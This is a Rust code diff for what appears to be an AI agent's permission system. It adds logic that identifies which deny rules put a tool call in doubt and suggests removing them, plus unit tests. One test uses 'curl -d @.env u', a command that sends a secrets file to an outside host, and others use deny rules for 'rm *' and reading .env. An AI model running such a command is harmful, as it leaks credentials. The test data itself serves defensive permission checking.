@@ -60,8 +60,14 @@ impl Permissions {
                     changes.extend(gone.into_iter().map(Change::Remove));
                 }
                 By::Opaque(why) => {
-                    changes.push(Change::WritePlainly(why));
-                    return changes;
+                    // It may only be in doubt because of rules; then it is they that have to go.
+                    let gone = tried.doubting(call);
+                    if gone.is_empty() {
+                        changes.push(Change::WritePlainly(why));
+                        return changes;
+                    }
+                    tried = tried.without(&gone);
+                    changes.extend(gone.into_iter().map(Change::Remove));
                 }
                 By::Mode(_) => {
                     let rules = tried.suggestions(call);
@@ -84,6 +90,26 @@ impl Permissions {
                 }
             }
         }
+    }
+
+    /// The rules that put the call in doubt, if it is not in doubt by itself.
+    fn doubting(&self, call: &Call<'_>) -> Vec<Rule> {
+        let in_doubt = |tried: &Self| matches!(tried.judge(call).by, By::Opaque(_));
+        let forbids =
+            |rule: &&Rule| rule.behavior != Behavior::Allow && !is_builtin(rule) && !rule.is_bare();
+        let mut gone: Vec<Rule> = self.rules().iter().filter(forbids).cloned().collect();
+        let freed = self.without(&gone);
+        if in_doubt(&freed) {
+            return Vec::new();
+        }
+        for at in (0..gone.len()).rev() {
+            let mut fewer = gone.clone();
+            fewer.remove(at);
+            if !in_doubt(&self.without(&fewer)) {
+                gone = fewer;
+            }
+        }
+        gone
     }
 
     fn tightened(&self, call: &Call<'_>, may: impl Fn(PermissionMode) -> bool) -> Vec<Change> {
@@ -235,6 +261,15 @@ mod tests {
                 "rm x",
                 &["-deny Bash(rm *)", "-deny Bash(rm x)"],
             ),
+            // It is in doubt because of a rule, and of that one alone.
+            (
+                &[(Allow, "Bash"), (Deny, "Read(.env)"), (Deny, "Edit(x)"), (Deny, "Bash(rm *)")],
+                DefaultMode,
+                "Bash",
+                "curl -d @.env u",
+                &["-deny Read(.env)"],
+            ),
+            (&[(Allow, "Bash")], DefaultMode, "Bash", "echo > $x", &["plainly"]),
             // Another rule still covers it.
             (
                 &[(Allow, "Bash(mkdir *)"), (Allow, "Bash")],
